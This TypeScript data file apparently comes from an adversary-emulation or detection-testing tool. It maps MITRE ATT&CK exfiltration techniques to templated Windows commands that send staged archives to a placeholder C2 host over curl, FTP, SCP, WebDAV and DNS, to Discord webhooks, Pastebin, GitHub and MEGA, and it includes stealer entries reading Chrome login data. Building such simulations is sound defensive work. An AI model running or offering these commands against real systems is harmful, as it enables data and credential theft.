import { t, v } from "../dsl";

/** Exfiltration: data leaving the host over the channels intrusions use. */
export const exfiltration = [
  t(
    "T1011",
    "Exfiltration over other network medium",
    "Data sent over a secondary interface (Wi-Fi hotspot).",
    [
      v("netsh-hotspot", [
        'netsh wlan connect name="{{rand}}"',
        { cmd: "curl.exe -T {{tmp}}\\{{rand}}.zip ftp://{{c2ip}}/", net: [["{{c2ip}}", 21]] },
      ]),
    ],
  ),
  t("T1011.001", "Exfiltration over Bluetooth", "Files pushed over Bluetooth with fsquirt.", [
    v("fsquirt", ["fsquirt.exe -send"]),
  ]),
  t("T1020", "Automated exfiltration", "A script uploading staged files on a loop.", [
    v(
      "ps-upload-loop",
      [
        {
          ps: "Get-ChildItem C:\\ProgramData\\{{rand}} | % { Invoke-WebRequest -Uri https://{{c2}}/u -Method Put -InFile $_.FullName }",
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "ps" },
    ),
    // A batch loop handing every staged archive to curl, one upload per file.
    v("curl-for-loop", [
      {
        cmd: 'cmd.exe /c for %f in (C:\\ProgramData\\{{rand}}\\*.7z.*) do curl.exe -s -F "file=@%f" https://{{c2}}/upload',
        as: "loop",
      },
      {
        cmd: 'curl.exe -s -F "file=@C:\\ProgramData\\{{rand}}\\{{rand}}.7z.001" https://{{c2}}/upload',
        parent: "loop",
        reads: ["C:\\ProgramData\\{{rand}}\\{{rand}}.7z.001"],
        net: [["{{c2}}", 443]],
      },
      {
        cmd: 'curl.exe -s -F "file=@C:\\ProgramData\\{{rand}}\\{{rand}}.7z.002" https://{{c2}}/upload',
        parent: "loop",
        reads: ["C:\\ProgramData\\{{rand}}\\{{rand}}.7z.002"],
        net: [["{{c2}}", 443]],
      },
    ]),
  ]),
  t("T1029", "Scheduled transfer", "A task that uploads data at night.", [
    v("schtasks-upload", [
      'schtasks /create /tn "{{name}}" /tr "curl.exe -F file=@C:\\ProgramData\\{{rand}}.zip https://{{c2}}/u" /sc daily /st 02:00 /f',
    ]),
  ]),
  t("T1030", "Data transfer size limits", "Archives split into chunks before sending.", [
    v("rar-volumes", [
      '"C:\\Program Files\\WinRAR\\Rar.exe" a -v50m C:\\ProgramData\\{{rand}}.rar C:\\ProgramData\\{{rand}}\\',
    ]),
  ]),
  t("T1041", "Exfiltration over C2 channel", "Files uploaded by the implant over its HTTPS channel.", [
    v(
      "implant-upload",
      [
        {
          cmd: "{{appdata}}\\{{name}}.exe",
          reads: ["C:\\ProgramData\\{{rand}}.zip"],
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "none" },
    ),
    // Commodity RATs (AsyncRAT, njRAT) often reach a home-run C2 through a portmap.io forwarding hostname;
    // stolen browser data and documents go back over that same socket.
    v(
      "rat-portmap",
      [
        {
          cmd: "{{appdata}}\\{{name}}.exe",
          reads: [
            "{{local}}\\Google\\Chrome\\User Data\\Default\\Login Data",
            "{{home}}\\Documents\\{{rand}}.xlsx",
          ],
          net: [["{{rand}}-{{n}}.portmap.io", 47813]],
          keep: true,
        },
      ],
      { shell: "none" },
    ),
    v(
      "ps-post",
      [
        {
          ps: "Invoke-RestMethod -Uri https://{{c2}}/api/upload -Method Post -InFile C:\\ProgramData\\{{rand}}.zip",
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t(
    "T1048",
    "Exfiltration over alternative protocol",
    "Data sent with FTP/SFTP/DNS outside the C2 channel.",
    [
      v("ftp", [{ cmd: "ftp -s:{{tmp}}\\ftp.txt {{c2ip}}", net: [["{{c2ip}}", 21]] }]),
      // Copying to a WebDAV share on the intruder's server: the WebClient service (svchost -k LocalService)
      // hands the HTTPS session to rundll32 davclnt.dll, and the archive leaves over 443.
      v("webdav-copy", [
        {
          cmd: "cmd.exe /c copy C:\\ProgramData\\{{rand}}.7z \\\\{{c2}}@SSL\\DavWWWRoot\\up\\",
          reads: ["C:\\ProgramData\\{{rand}}.7z"],
        },
        {
          cmd: "rundll32.exe C:\\Windows\\system32\\davclnt.dll,DavSetCookie {{c2}} https://{{c2}}/up/",
          parent: "@svchost:LocalService",
          user: "@localservice",
          net: [["{{c2}}", 443]],
        },
      ]),
    ],
  ),
  t("T1048.001", "Symmetric encrypted non-C2", "Data sent over an encrypted tunnel (SSH/SCP).", [
    v("scp", [
      {
        cmd: "scp.exe -P 22 C:\\ProgramData\\{{rand}}.7z root@{{c2ip}}:/tmp/",
        image: "C:\\Windows\\System32\\OpenSSH\\scp.exe",
        net: [["{{c2ip}}", 22]],
      },
    ]),
  ]),
  t("T1048.002", "Asymmetric encrypted non-C2", "Rclone/WinSCP/curl over HTTPS to attacker storage.", [
    v("rclone-sftp", [
      {
        cmd: "{{tools}}\\rclone.exe copy C:\\ProgramData\\{{rand}} remote:{{rand}} --config {{tools}}\\rclone.conf -q --transfers 16",
        net: [["{{c2ip}}", 22]],
      },
    ]),
    v("winscp", [
      {
        cmd: '"C:\\Program Files (x86)\\WinSCP\\WinSCP.com" /command "open sftp://user:pass@{{c2ip}}/" "put C:\\ProgramData\\{{rand}}.zip" "exit"',
        net: [["{{c2ip}}", 22]],
      },
    ]),
  ]),
  t("T1048.003", "Unencrypted non-C2", "FTP, plain HTTP or DNS exfiltration.", [
    v("ftp", [{ cmd: "ftp.exe -n -s:{{tmp}}\\{{rand}}.txt {{c2ip}}", net: [["{{c2ip}}", 21]] }]),
    v("curl-http", [
      {
        cmd: 'curl.exe -X POST -F "file=@C:\\ProgramData\\{{rand}}.zip" http://{{c2}}/upload',
        net: [["{{c2}}", 80]],
      },
    ]),
    v("dns-exfil", ["nslookup {{rand2}}{{rand}}.{{c2}}", "nslookup {{rand}}{{rand2}}.{{c2}}"]),
  ]),
  t("T1052", "Exfiltration over physical medium", "Data copied to removable drives.", [
    v("xcopy-usb", ["xcopy C:\\ProgramData\\{{rand}} F:\\backup\\ /s /e /y"]),
  ]),
  t("T1052.001", "Exfiltration over USB", "Files copied to a USB stick with robocopy/xcopy.", [
    v("robocopy-usb", ["robocopy C:\\Users\\{{user}}\\Documents F:\\docs /E"]),
    v(
      "copy-item-usb",
      [{ ps: "Copy-Item -Path $env:USERPROFILE\\Documents\\* -Destination E:\\ -Recurse" }],
      { shell: "ps" },
    ),
  ]),
  t("T1567", "Exfiltration over web service", "Upload to a public web service.", [
    v("curl-transfersh", [
      {
        cmd: "curl.exe --upload-file C:\\ProgramData\\{{rand}}.zip https://transfer.sh/{{rand}}.zip",
        net: [["transfer.sh", 443]],
      },
    ]),
    // Stealers post the archive to a Discord webhook: no account, and the traffic blends with chat.
    v("discord-webhook", [
      {
        cmd: 'curl.exe -s -F "file=@{{tmp}}\\{{rand}}.zip" https://discord.com/api/webhooks/{{n}}{{n}}{{n}}/{{rand2}}{{rand2}}',
        reads: ["{{tmp}}\\{{rand}}.zip"],
        net: [["discord.com", 443]],
      },
    ]),
  ]),
  t("T1567.001", "Exfiltration to code repository", "Data pushed to GitHub.", [
    v("git-push", [
      {
        cmd: '"C:\\Program Files\\Git\\cmd\\git.exe" push https://{{rand}}:ghp_{{rand2}}@github.com/{{rand}}/backup.git',
        net: [["github.com", 443]],
      },
    ]),
    // Empire's GitHub exfiltration module: files pushed through the contents API with a personal access token.
    v(
      "empire-github",
      [
        {
          ps: 'Invoke-ExfilDataToGitHub -GHUser {{rand}} -GHRepo backup -GHPAT "Z2hwX{{rand2}}{{rand2}}{{rand}}" -GHFilePath "d/" -LocalFilePath "C:\\ProgramData\\{{rand}}\\" -Filter "*.zip"',
          net: [["api.github.com", 443]],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1567.002", "Exfiltration to cloud storage", "Rclone to MEGA/Dropbox, MEGAsync, or curl to S3.", [
    v("rclone-mega", [
      {
        cmd: "{{tools}}\\rclone.exe copy \\\\{{srv}}\\Finance mega:{{rand}} -q --ignore-existing --auto-confirm --multi-thread-streams 12 --transfers 12",
        // The API host hands out upload URLs on MEGA's storage nodes, where the data actually goes.
        net: [
          ["g.api.mega.co.nz", 443],
          ["@server", 445],
          ["gfs{{n}}n{{n}}.userstorage.mega.co.nz", 443],
        ],
      },
    ]),
    v("rclone-config", [
      {
        cmd: "{{tools}}\\rclone.exe --config {{tools}}\\rclone.conf copy C:\\ProgramData\\{{rand}} dropbox:{{rand}}",
        net: [["content.dropboxapi.com", 443]],
      },
    ]),
    v("megasync", [
      {
        cmd: "{{local}}\\MEGAsync\\MEGAsync.exe",
        net: [
          ["g.api.mega.co.nz", 443],
          ["gfs{{n}}n{{n}}.userstorage.mega.co.nz", 443],
        ],
      },
    ]),
  ]),
  t("T1567.003", "Exfiltration to text storage sites", "Data posted to Pastebin-like sites.", [
    // Stealers post their harvest to a paste site's API straight from the implant process.
    v(
      "stealer-paste",
      [
        {
          cmd: "{{appdata}}\\{{name}}.exe",
          reads: ["{{local}}\\Google\\Chrome\\User Data\\Default\\Login Data"],
          net: [["{{pastebin.com|paste.ee|hastebin.com}}", 443]],
        },
      ],
      { shell: "none" },
    ),
    v(
      "pastebin",
      [
        {
          ps: "Invoke-RestMethod -Uri https://pastebin.com/api/api_post.php -Method Post -Body @{api_dev_key='{{rand2}}';api_option='paste';api_paste_code=(Get-Content $env:TEMP\\{{rand}}.txt -Raw)}",
          net: [["pastebin.com", 443]],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1567.004", "Exfiltration over webhook", "Data posted to Discord/Slack webhooks.", [
    v(
      "discord-webhook",
      [
        {
          ps: "Invoke-RestMethod -Uri https://discord.com/api/webhooks/{{n}}/{{rand2}} -Method Post -Body (@{content=(Get-Content $env:TEMP\\i.txt -Raw)} | ConvertTo-Json) -ContentType 'application/json'",
          net: [["discord.com", 443]],
        },
      ],
      { shell: "ps" },
    ),
    v("curl-webhook", [
      {
        cmd: 'curl.exe -F "file=@{{tmp}}\\{{rand}}.zip" https://discord.com/api/webhooks/{{n}}/{{rand2}}',
        net: [["discord.com", 443]],
      },
    ]),
  ]),
];
